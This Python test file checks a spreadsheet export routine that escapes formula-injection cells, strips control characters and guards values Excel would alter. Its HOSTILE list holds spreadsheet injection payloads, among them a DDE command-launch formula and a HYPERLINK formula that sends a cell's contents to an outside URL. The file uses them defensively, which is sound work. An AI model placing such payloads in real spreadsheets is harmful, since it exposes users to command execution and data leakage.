"""Sheets: what a spreadsheet neither runs nor changes, and what every reader reads back."""

from __future__ import annotations

import csv
import io
import re
from typing import TYPE_CHECKING, Any, Final

import pandas
import polars
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from pyoxigraph import BlankNode, Literal, Quad

from samples import changed, quads, store
from studyclaims.exports.sheets import SEPARATORS, cleaned, guarded, sheet, unguarded
from studyclaims.queries import Rows, plain
from studyclaims.rdf import node, typed
from studyclaims.showing.claimtable import claims_table
from studyclaims.stores.embedded import EmbeddedStore

if TYPE_CHECKING:
    from collections.abc import Iterable

HOSTILE: Final = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "@SUM(1+1)*cmd",
    "+1+1",
    "-2+3",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n@x",
    "\xa0=1",
)
ODD: Final = (
    'he said "no", twice',
    '"',
    ",",
    ";",
    "'quoted'",
    "a\tb",
    "a\r\nb",
    "a\nb",
    "NA",
    "null",
    "None",
    " blank ends ",
    "β-arrestin 骨",
    "nul\x00l",
    "\u202eright to left",
    "\ufeffmark",
    "\u2028line",
    "#comment",
    "\\",
)
FORMS: Final = [(form, excel) for form in SEPARATORS for excel in (False, True)]
FORMULA: Final = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r\n]")
few = settings(max_examples=40)
NUMBER: Final = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", re.ASCII)


def one_column(texts: Iterable[str]) -> Rows:
    """Return rows of two columns: the text, and something that is never empty."""
    return Rows(("text", "n"), tuple((Literal(text), Literal(n)) for n, text in enumerate(texts)))


def by_csv(text: str, form: str) -> list[dict[str, str]]:
    lines = io.StringIO(text.removeprefix("\ufeff"), newline="")
    return list(csv.DictReader(lines, delimiter=SEPARATORS[form], strict=True))


def by_pandas(text: str, form: str) -> list[dict[str, str]]:
    data = io.BytesIO(text.encode())
    frame = pandas.read_csv(data, sep=SEPARATORS[form], dtype=str, keep_default_na=False)
    return [{str(k): str(v) for k, v in row.items()} for row in frame.to_dict("records")]


def by_polars(text: str, form: str) -> list[dict[str, str]]:
    frame = polars.read_csv(text.encode(), separator=SEPARATORS[form], infer_schema=False)
    return frame.fill_null("").to_dicts()


READERS: Final = {"csv": by_csv, "pandas": by_pandas, "polars": by_polars}


@pytest.mark.parametrize("reader", READERS)
@pytest.mark.parametrize(("form", "excel"), FORMS)
def test_every_reader_reads_the_same_back(reader: str, form: str, excel: bool) -> None:
    texts = [*HOSTILE, *ODD]
    found = READERS[reader](sheet(one_column(texts), form, excel=excel), form)
    assert [unguarded(row["text"]) for row in found] == [cleaned(text) for text in texts]
    assert [row["n"] for row in found] == [str(n) for n in range(len(texts))]


@pytest.mark.parametrize("reader", READERS)
@pytest.mark.parametrize(("form", "excel"), FORMS)
def test_the_claim_table_is_read_back(reader: str, form: str, excel: bool) -> None:
    rows = claims_table(store())
    names = rows.variables
    found = READERS[reader](sheet(rows, form, excel=excel), form)
    wanted = [
        {k: t.value if isinstance(t, Literal) else "" for k, t in zip(names, row, strict=True)}
        for row in rows.rows
    ]
    assert [{k: unguarded(v) for k, v in row.items()} for row in found] == wanted
    assert len(found) == 5


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_guarded(text: str) -> None:
    assert guarded(text) == f"'{text}"
    line = sheet(one_column([text]), "tsv").splitlines()[1]
    assert line.startswith(("'", "\"'"))


@pytest.mark.parametrize("text", ["-7", "+7", "-7.5", ".5", "-1e-5", "1E5", "0", "text", "a=b", ""])
def test_what_is_no_formula_stays(text: str) -> None:
    assert guarded(text) == text


@few
@given(st.text())
@example("'")
@example("''=1")
@example("'-1")
@example("1E5")
@example("SEPT2")
def test_a_guard_can_be_taken_back(text: str) -> None:
    for excel in (False, True):
        assert unguarded(guarded(text, excel=excel)) == text


FIGURES: Final = "-20 %|-20%|+113 %|-34.1 % (± 0.9)|-1.5 mm|+.5 g|-2 mg/d|-7 µm|-1E-5 mm.s|-3 °"


@pytest.mark.parametrize("text", FIGURES.split("|"))
def test_a_figure_with_its_unit_is_guarded_for_excel_alone(text: str) -> None:
    assert (guarded(text), guarded(text, excel=True)) == (text, f"'{text}")
    assert guarded(text[1:]) == text[1:]


FORMULAS: Final = """
-20 % + 1;-1 A1;-1A1;-1 mm+2;-1 mm*2;-2 cmd|x;-1 sum(2);-1 sum (2);-1 mm (2);-1 x!y;--20 %;=-20 %
-1 a:b;-1 % (± 0.9)+1;-1 mm2;-1 "x";@20 %; -20 %;-1 mm (± a);-1 $;-%;-1 x/;-1 mm/2;-20 %\t
"""


@pytest.mark.parametrize("text", re.split(r"[;\n]", FORMULAS.strip("\n")))
def test_what_is_more_than_a_figure_is_guarded(text: str) -> None:
    assert guarded(text) == guarded(text, excel=True) == f"'{text}"


@few
@given(st.text() | st.from_regex(r"[-+=@][0-9.]+ ?[%a-zA-Z]*[-+*/!|(:$0-9a-z ]*", fullmatch=True))
def test_no_cell_is_a_formula(text: str) -> None:
    cell = guarded(text)
    name_or_call = re.search(r"[A-Za-z]\d|[A-Za-z%] ?\((?!±)|[!|*:$=@]|[^Ee(± ][-+]", cell[1:])
    assert NUMBER.fullmatch(cell) or not FORMULA.match(cell) or not name_or_call
    assert NUMBER.fullmatch(cell) or not FORMULA.match(cell) or cell[:1] in "+-"


@few
@given(st.lists(st.text(), max_size=5), st.sampled_from(FORMS))
def test_any_text_is_read_back(texts: list[str], how: tuple[str, bool]) -> None:
    form, excel = how
    text = sheet(one_column(texts), form, excel=excel)
    assert [unguarded(row["text"]) for row in by_csv(text, form)] == [cleaned(t) for t in texts]
    assert len(text.splitlines()) == len(texts) + 1


@few
@given(st.text())
def test_a_cleaned_text_is_one_line_without_control_characters(text: str) -> None:
    kept = cleaned(text)
    assert cleaned(kept) == kept
    assert not any(ord(sign) < 32 or 127 <= ord(sign) < 160 for sign in kept)
    assert len(kept.splitlines()) <= 1


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a\t\r\n b", "a  b"),
        ("a\x1cb\x85c\u2028d\u2029e", "a b c d e"),
        ("\x00\x1b[31m\x7f\x9f", "��[31m��"),
        ("\u061c\u200e\u200f\u202a\u202e\u2066\u2069\ufeff\ufffe\uffff", "�" * 10),
        ("\ud800", "�"),
        ("é 骨 \u200d", "é 骨 \u200d"),
    ],
)
def test_what_no_reader_sees_is_replaced(text: str, kept: str) -> None:
    assert cleaned(text) == kept


CHANGED_BY_EXCEL: Final = """
SEPT2|MARCH1|Dec1|1-9|3/4|1.2.3|may-2020|march-2012|3-May|2310009E13|12:30|1:2:3.5|2020-02-03|007
1.50|1E5|-0.10|12345678901234567|5%|true|FALSE|5 am|14 %|1 1/2|Sept 2, 2020|12:30 pm
"""
KEPT_BY_EXCEL: Final = """
title|24|-8|1.5|0.05|100|CL:0000092|TP53|ausk-2017|may|10.1234/small.1|<0.05|24 h|3-4 mice
abstract, sentence 2|10 weeks|decreased
"""


@pytest.mark.parametrize("text", re.split(r"[|\n]", CHANGED_BY_EXCEL.strip()))
def test_what_excel_would_change_is_guarded_for_it_alone(text: str) -> None:
    assert guarded(text, excel=True) == f"'{text}"
    assert guarded(text) == text
    cells = [sheet(one_column([text]), "tsv", excel=excel).split() for excel in (False, True)]
    assert [cell[2][0] == "'" for cell in cells] == [False, True]


@pytest.mark.parametrize("text", re.split(r"[|\n]", KEPT_BY_EXCEL.strip()))
def test_what_excel_keeps_is_not_guarded(text: str) -> None:
    assert guarded(text, excel=True) == text


def test_a_number_is_a_number_for_excel_too() -> None:
    cells = (
        typed("1.50", "xsd:decimal"),
        Literal(7),
        Literal(True),
        typed("1E5", "xsd:double"),
        Literal("1.50"),
    )
    text = sheet(Rows(tuple("abcde"), (cells,)), "csv", excel=True)
    assert text.splitlines()[1] == "1.50,7,true,1E5,'1.50"


def test_terms_of_every_kind_have_a_cell() -> None:
    cells = (node("sc:x"), BlankNode("b"), None, Literal("t", language="en"))
    line = sheet(Rows(tuple("abcd"), (cells,)), "csv").splitlines()[1]
    assert line == "https://w3id.org/studyclaims/vocab/x,_:b,,t"


def test_for_excel_there_is_a_mark_and_lines_end_as_it_wants() -> None:
    text = sheet(one_column(["é"]), "csv", excel=True)
    assert text == "\ufefftext,n\r\né,0\r\n"
    assert sheet(one_column(["é"]), "csv") == "text,n\né,0\n"


def test_cells_are_quoted_only_where_they_must_be() -> None:
    assert sheet(one_column(['a"b', "a,b", "ab"]), "csv") == 'text,n\n"a""b",0\n"a,b",1\nab,2\n'
    assert sheet(one_column(['a"b', "a,b"]), "tsv") == 'text\tn\n"a""b"\t0\na,b\t1\n'


def test_a_hostile_title_and_label_reach_the_table_disarmed() -> None:
    data = changed("sources.paper.title", HOSTILE[0])
    label = node("rdfs:label")
    held = [
        Quad(q.subject, label, Literal(HOSTILE[1]), q.graph_name)
        if q.predicate == label and q.subject == node("scterm:disuse")
        else q
        for q in quads(data)
    ]
    text = sheet(claims_table(EmbeddedStore(held)), "csv")
    rows = by_csv(text, "csv")
    assert {row["source_title"] for row in rows if row["source_kind"] == "primary"} == {
        f"'{HOSTILE[0]}"
    }
    assert f"'{HOSTILE[1]}" in {row["about"] for row in rows}
    cells: list[Any] = [cell for row in rows for cell in row.values()]
    assert [c for c in cells if FORMULA.match(c) and not NUMBER.match(c)] == []


def test_plain_values_and_cells_agree() -> None:
    rows = claims_table(store())
    first = by_csv(sheet(rows, "csv"), "csv")[-1]
    values = dict(zip(rows.variables, map(plain, rows.rows[-1]), strict=True))
    assert float(first["value"]) == float(values["value"])
    assert (first["measured"], first["n"]) == ("true", "8")
